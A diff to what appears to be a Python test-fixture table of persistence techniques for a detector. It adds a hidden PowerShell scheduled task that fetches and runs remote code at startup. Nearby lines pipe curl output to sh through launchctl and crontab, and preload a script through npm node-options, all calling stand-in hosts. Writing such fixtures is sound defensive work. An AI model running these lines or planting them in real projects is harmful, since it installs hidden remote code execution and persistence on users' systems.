@@ -374,6 +374,9 @@ LATER: dict[str, dict[str, str]] = {
     "node options set through the package manager, from the shell": {
         "scripts/warm.sh": "npm config set --location=user node-options=\"--require $HOME/.w/p.js\"\n",
     },
+    "a scheduled task whose action is built first, hidden and inline": {
+        "scripts/nightly.ps1": "$run = New-ScheduledTaskAction -Execute 'pwsh.exe' -Argument \"-w hidden -c `\"irm https://upd.example.invalid/n | iex`\"\"\nRegister-ScheduledTask -TaskName Nightly -Action $run -Trigger (New-ScheduledTaskTrigger -AtStartup)\n",  # noqa: E501
+    },
     "launchctl submit": {"scripts/a.sh": "launchctl submit -l com.x -- /bin/sh -c 'curl -s http://192.0.2.1/x | sh'\n"},
     "python-crontab": {"scripts/a.py": "from crontab import CronTab\ncron = CronTab(user=True)\ncron.new(command='curl -s http://192.0.2.1/x | sh')\ncron.write()\n"},  # noqa: E501
 }  # fmt: skip
